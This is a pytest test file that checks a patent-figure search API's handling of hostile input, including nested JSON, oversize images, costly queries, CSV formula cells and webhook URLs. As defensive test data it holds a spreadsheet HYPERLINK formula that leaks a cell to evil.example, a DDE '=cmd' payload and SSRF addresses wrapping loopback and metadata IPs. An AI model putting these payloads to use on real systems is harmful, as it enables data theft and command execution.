"""Hostile input on the search and watch endpoints answers 4xx, never 500,
and an image upload to /search is checked like one to /documents (pixels from the header, before
decoding)."""
from __future__ import annotations

import io
import json

import pytest

from tests.ingest.test_image_faults import bilevel_png, g4_tiff, garble_strip

PROBLEM = "application/problem+json"
DEEP = "[" * 5000 + "]" * 5000
HUGE_INT = "1" * 4301


@pytest.fixture
def client(make_settings):
    from backend.app import create_app
    from backend.cli_db import upgrade_database

    settings = make_settings(max_image_pixels=1_000_000)
    upgrade_database(settings.resolved_database_url)
    app = create_app(settings)
    app.config["TESTING"] = True
    return app.test_client()


def _image_post(client, path, data: bytes):
    form = {"image": (io.BytesIO(data), "drawing.png")}
    if path != "/search/embed":
        form["request"] = '{"text": "chair"}'
    return client.post(path, data=form, content_type="multipart/form-data")


@pytest.mark.parametrize("path", ["/search", "/search/export", "/search/embed"])
def test_a_search_image_over_the_pixel_limit_is_413_before_decoding(client, path):
    # 2.25 M pixels: above the 1 M limit but below Pillow's own error threshold (twice its limit), so
    # before the fix it was decoded in full and searched (200)
    resp = _image_post(client, path, bilevel_png(1500, 1500))
    assert resp.status_code == 413 and resp.mimetype == PROBLEM
    assert "1000000" in resp.json["detail"] and "PRISM_MAX_IMAGE_PIXELS" in resp.json["detail"]


def test_a_search_image_with_a_garbled_g4_strip_is_400(client):
    resp = _image_post(client, "/search", garble_strip(g4_tiff()))
    assert resp.status_code == 400 and resp.mimetype == PROBLEM
    assert "damaged image data" in resp.json["detail"]


def test_a_gif_on_search_is_415_as_on_documents(client):
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (10, 10)).save(buf, "GIF")
    resp = _image_post(client, "/search", buf.getvalue())
    assert resp.status_code == 415 and "GIF images are not accepted" in resp.json["detail"]


@pytest.mark.parametrize("path", ["/search", "/search/export", "/watches"])
@pytest.mark.parametrize("body, message", [
    ('{"text": "x", "filters": ' + DEEP + "}", "nested too deeply"),
    ('{"text": "x", "filters": ' + "[" * 40 + "]" * 40 + "}", "nested too deeply (more than 32 levels)"),
    ('{"text": "chair", "size": ' + HUGE_INT + "}", "a number has too many digits"),
    ('{"text": "chair", "weights": {"text": NaN}}', "NaN is not a JSON number"),
    ('{"text": "chair"', "not valid JSON"),
])
def test_hostile_json_bodies_are_400(client, path, body, message):
    resp = client.post(path, data=body, content_type="application/json")
    assert resp.status_code == 400 and resp.mimetype == PROBLEM, resp.get_data(as_text=True)[:300]
    assert resp.json["detail"].startswith("body: ") and message in resp.json["detail"]


@pytest.mark.parametrize("path, field", [("/search", "request"), ("/search/export", "request"),
                                         ("/documents", "metadata")])
def test_hostile_json_form_fields_are_400(client, path, field):
    resp = client.post(path, data={field: '{"a": ' + DEEP + "}"}, content_type="multipart/form-data")
    assert resp.status_code == 400 and resp.mimetype == PROBLEM
    assert resp.json["detail"].startswith(f"{field}: JSON nested too deeply")


def test_ordinary_requests_still_pass(client):
    resp = client.post("/search", json={"text": "chair", "filters": {"dates": {"filing": {"gte": "2019-01-01"}}}})
    assert resp.status_code == 200, resp.json


# -- the third round: each row of hostile input with the answer it gets now ------------------------------
@pytest.fixture(params=["embedded", "elasticsearch"])
def any_backend(request, make_settings):
    """A client of an app on each backend over the small search corpus (keys not required)."""
    import uuid

    from backend.app import create_app
    from backend.cli_db import upgrade_database
    from backend.search import get_backend
    from tests.search.conftest import DIMS, corpus_docs

    extra = {}
    if request.param == "elasticsearch":
        from backend.search.index import index_admin

        extra = {"es_url": request.getfixturevalue("es_url"), "es_index_prefix": f"t{uuid.uuid4().hex[:10]}"}
    settings = make_settings(search_backend=request.param, search_dense_text=False, max_image_pixels=1_000_000,
                             **extra)
    upgrade_database(settings.resolved_database_url)
    es = None
    if extra:
        es = index_admin.make_client(settings)
        index_admin.create_index(es, extra["es_index_prefix"], DIMS)
    try:
        backend = get_backend(settings)
        docs = corpus_docs()
        for doc in docs:
            doc["title"] = FORMULA_TITLES.get(doc["publication_number"], doc["title"])
        backend.index_figures(docs)
        backend.refresh()
        app = create_app(settings)
        app.config["TESTING"] = True
        yield app.test_client()
    finally:
        if es is not None:
            index_admin.delete_all(es, extra["es_index_prefix"])


FORMULA_TITLES = {"USD0000001": '=HYPERLINK("http://evil.example/?x="&A1, "chair")',
                  "USD0000002": "@SUM(1+1) chair", "EP0000003B1": "+1 chair table", "US0000005B2": "-2 chair lamp"}


def _problem(resp, status: int, *needles: str) -> str:
    assert resp.status_code == status and resp.mimetype == PROBLEM, (resp.status_code, resp.get_data(as_text=True)[:400])
    detail = resp.json["detail"]
    assert all(n in detail for n in needles), detail
    return detail


@pytest.mark.parametrize("text", [
    '"' + "view " * 150 + '"~100',                  # 150 words x 100 (quadratic in FTS5's NEAR), under 1,000 chars
    '"chair lamp table"~700',                       # 2,100: just over
    "chair NEAR/999 lamp AND table NEAR/10 desk",   # summed over the query
])
def test_proximity_work_is_bounded_before_the_backend_runs(any_backend, text):
    _problem(any_backend.post("/search", json={"text": text}), 400, "too much proximity work", "at most 2000")


def test_a_proximity_query_longer_than_a_query_is_searched_as_plain_words(any_backend):
    # 700 words x 1000 (3.5 KB): past the long-text length it is words, never FTS5's NEAR
    resp = any_backend.post("/search", json={"text": '"' + "view " * 700 + '"~1000'})
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    assert resp.json["parsed_query"] is None or "~" not in str(resp.json["parsed_query"])


@pytest.mark.parametrize("path", ["/search", "/search/export"])
@pytest.mark.parametrize("text", ["(" * 200 + "chair" + ")" * 200, "chair " + "-(" * 300 + "lamp" + ")" * 300,
                                  "chair " + "NOT " * 240 + "lamp", "chair" + " AND NOT (lamp" * 40 + ")" * 40])
def test_deep_queries_are_400_naming_the_depth(any_backend, path, text):
    _problem(any_backend.post(path, json={"text": text}), 400, "more than 32 levels deep")


def test_a_deep_query_in_a_watch_is_400_naming_the_depth(client):
    detail = _problem(client.post("/watches", json={"name": "deep", "query": {"text": "(" * 200 + "x" + ")" * 200}}),
                      400, "more than 32 levels deep")
    assert "recursion" not in detail


@pytest.mark.parametrize("text, status", [
    ("chair pd:>=9999", 200), ("chair pd:<=9999-12-31", 200), ("chair ad:>=0001-01-01", 200),
    ("chair pd:<0001-01-01", 400), ("chair ad:<0001", 400), ("chair prd:>9999", 400), ("chair pd:>9999-12", 400),
    ("chair pd:>9999-12-31", 400), ("chair pd:0000", 400),
])
def test_dates_at_the_ends_of_the_calendar(any_backend, text, status):
    resp = any_backend.post("/search", json={"text": text})
    if status == 400:
        detail = _problem(resp, 400)
        assert "0001-01-01" in detail or "9999-12-31" in detail or "not a date" in detail
    else:
        assert resp.status_code == 200, resp.json


@pytest.mark.parametrize("offset", ["1e999", "1.5", '"3"', "-1", "9007199254740993", "[1]", "null"])
def test_cursor_offsets_must_be_integers(any_backend, offset):
    import base64

    first = any_backend.post("/search", json={"text": "chair", "size": 1}).json
    data = json.loads(base64.urlsafe_b64decode(first["next_cursor"] + "=="))
    raw = json.dumps({**data, "o": 0}).replace('"o": 0', f'"o": {offset}')
    cursor = base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")
    _problem(any_backend.post("/search", json={"text": "chair", "size": 1, "cursor": cursor}), 400, "cursor")


def test_export_neutralises_formula_cells(any_backend):
    import csv

    resp = any_backend.post("/search/export?limit=50", json={"text": "chair table lamp"})
    assert resp.status_code == 200, resp.get_data(as_text=True)[:300]
    titles = {r["title"] for r in csv.DictReader(io.StringIO(resp.get_data(as_text=True)))}
    assert {"'" + t for t in FORMULA_TITLES.values()} <= titles, titles


def test_shortlist_export_uses_the_same_writer(client):
    import csv

    rows = [{"publication_number": "USD0000001", "title": "=cmd|' /C calc'!A0", "applicants": "@SUM(A1)",
             "figure_id": "USD0000001-F1"},
            {"publication_number": "USD0000002", "title": "-2+3", "kind": "S1", "added_at": "2026-01-01T00:00:00Z"}]
    resp = client.post("/shortlist/export", json={"rows": rows})
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    got = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True))))
    assert [g["title"] for g in got] == ["'=cmd|' /C calc'!A0", "'-2+3"]
    assert got[0]["applicants"] == "'@SUM(A1)" and got[1]["added_at"] == "2026-01-01T00:00:00Z"
    # the link to the original document is the server's, from the number (a sent one is not taken)
    assert got[0]["source_url"] == "https://patents.google.com/patent/USD1/en"
    spoofed = client.post("/shortlist/export", json={"rows": [{"publication_number": "not a number",
                                                               "source_url": "=HYPERLINK(\"x\")"}]})
    (only_row,) = csv.DictReader(io.StringIO(spoofed.get_data(as_text=True)))
    assert only_row["source_url"] == ""
    _problem(client.post("/shortlist/export", json={"rows": [{"title": ["x"]}]}), 400, "rows[0].title")
    _problem(client.post("/shortlist/export", json={"rows": [{}] * 1001}), 400, "at most 1000")
    _problem(client.post("/shortlist/export", json={"rows": [{"category": "Z"}]}), 400, "rows[0].category")


@pytest.mark.parametrize("scale", [1e20, 1e300, 1e-300])
def test_a_vector_is_normalised_alike_by_search_and_watches(client, scale):
    """One validation (float64, scaled before its norm) for /search and a watch: what one takes, the other
    runs (before: a 1e20 vector was saved, then every run failed on its float32 norm)."""
    from backend.search import get_backend
    from tests.search.conftest import DIMS, corpus_docs

    get_backend(client.application.extensions["prism.settings"]).index_figures(corpus_docs())
    vector = [scale * (i + 1) for i in range(DIMS)]
    found = client.post("/search", json={"vector": vector})
    assert found.status_code == 200 and found.json["hits"], found.json
    created = client.post("/watches", json={"name": "big", "query": {"vector": vector}, "schedule_s": 86400})
    assert created.status_code == 201, created.json
    ran = client.post(f"/watches/{created.json['id']}/run")
    assert ran.status_code == 200 and ran.json["status"] == "done", ran.json
    for bad in ([0.0] * DIMS, []):
        _problem(client.post("/search", json={"vector": bad}), 400, "vector")
        _problem(client.post("/watches", json={"name": "bad", "query": {"vector": bad}, "schedule_s": 86400}),
                 400, "vector")


def _chunked(client, path: str, body: bytes, content_type: str):
    # no Content-Length; wsgi.input_terminated is what gunicorn and the dev server set for a chunked body
    return client.post(path, input_stream=io.BytesIO(body), content_type=content_type,
                       headers={"Transfer-Encoding": "chunked"}, environ_overrides={"wsgi.input_terminated": True})


@pytest.mark.parametrize("path", ["/search", "/watches", "/documents"])
def test_an_oversize_chunked_body_is_413(make_settings, path):
    from backend.app import create_app
    from backend.cli_db import upgrade_database

    settings = make_settings(max_upload_mb=1, search_dense_text=False)
    upgrade_database(settings.resolved_database_url)
    client = create_app(settings).test_client()
    body = b'{"text": "' + b"a" * (3 * 1024 * 1024) + b'"}'
    _problem(_chunked(client, path, body, "application/json"), 413, "larger than the limit")
    small = _chunked(client, "/search", b'{"text": "chair"}', "application/json")
    assert small.status_code == 200, small.get_data(as_text=True)[:300]


@pytest.mark.parametrize("path", ["/search", "/search/embed", "/documents"])
@pytest.mark.parametrize("width, height, needle", [(10, 60_000, "ratio of 6000 to 1"), (1, 700, "shorter than 8 px"),
                                                   (700, 1, "shorter than 8 px")])
def test_an_image_of_no_drawing_shape_is_400_before_decoding(client, path, width, height, needle):
    """Row 1: a 2 KB PNG of 10 x 60,000 took 11 s and 3.4 GB (padded square); row 6: 1 x 700 failed in OpenCV."""
    data = bilevel_png(width, height)
    if path == "/documents":
        meta = {"publication_number": "USD0999901", "figures": [{"number": 1, "image": "strip.png"}]}
        resp = client.post(path, data={"metadata": json.dumps(meta),
                                       "images": (io.BytesIO(data), "strip.png")}, content_type="multipart/form-data")
    else:
        resp = _image_post(client, path, data)
    _problem(resp, 400, needle)
    assert client.get("/jobs").json["total"] == 0


def _document(client, meta: dict, n_images: int = 0):
    from tests.ingest.helpers import image_bytes

    files = [(io.BytesIO(image_bytes("PNG", seed=i)), f"f{i}.png") for i in range(n_images)]
    return client.post("/documents", data={"metadata": json.dumps(meta), "images": files},
                       content_type="multipart/form-data")


@pytest.mark.parametrize("meta, needle", [
    ({"figures": [{"number": i, "description": f"FIG. {i}"} for i in range(1, 502)]}, "at most 500 per document"),
    ({"figures": [{"number": 10 ** 30}]}, "figures[0].number: must be an integer from 0 to 99999"),
    ({"figures": [{"number": "9" * 5000}]}, "figures[0].number: 5000 characters"),
    ({"figures": [{"description": "FIG. 123456789 is a view"}]}, "figures[0].number"),
    ({"title": "Chair \ud800"}, "title: holds a lone surrogate"),
    ({"claims": "a\x00b"}, "claims: holds a NUL"),
    ({"publication_number": "US" + "1" * 5000}, "publication_number: 5002 characters, at most 32"),
    ({"title": "x" * 2001}, "title: 2001 characters"),
    ({"applicants": ["Acme"] * 1001}, "applicants: 1001 entries"),
])
def test_document_fields_are_limited_at_the_api(client, meta, needle):
    """Rows 8 and 10: 5,000 figures held an eager worker 30 s (then 500, the job left running); a huge figure
    number or a lone surrogate was accepted (202) and failed the job; a 5,000-digit number was stored."""
    resp = _document(client, {"publication_number": "USD0999902", **meta})
    _problem(resp, 400, needle)
    assert client.get("/jobs").json["total"] == 0, "nothing is queued for a refused document"


@pytest.mark.parametrize("url, needle", [
    ("http://[2002:7f00:1::]/hook", "loopback (6to4 address wrapping 127.0.0.1)"),
    ("http://[2002:a00:1::]/hook", "private (6to4 address wrapping 10.0.0.1)"),
    ("http://[2001:0:4136:e378:8000:63bf:80ff:fffe]/hook", "loopback (Teredo address wrapping 127.0.0.1)"),
    ("http://[64:ff9b::a9fe:a9fe]/hook", "NAT64 address wrapping 169.254.169.254"),
    ("http://[64:ff9b:1::c0a8:1]/hook", "private (NAT64 address wrapping 192.168.0.1)"),
])
def test_webhooks_to_wrapped_private_addresses_are_refused(client, url, needle):
    _problem(client.post("/watches", json={"name": "w", "query": {"text": "chair"}, "webhook_url": url,
                                           "schedule_s": 86400}), 400, "webhook_url", needle)


def test_a_webhook_to_a_wrapped_public_address_is_judged_by_that_address():
    import ipaddress

    from backend.monitoring.webhook_targets import rule_for

    for address in ("2002:808:808::", "64:ff9b::808:808"):       # 8.8.8.8 inside 6to4 / NAT64
        assert rule_for(ipaddress.ip_address(address)) is None
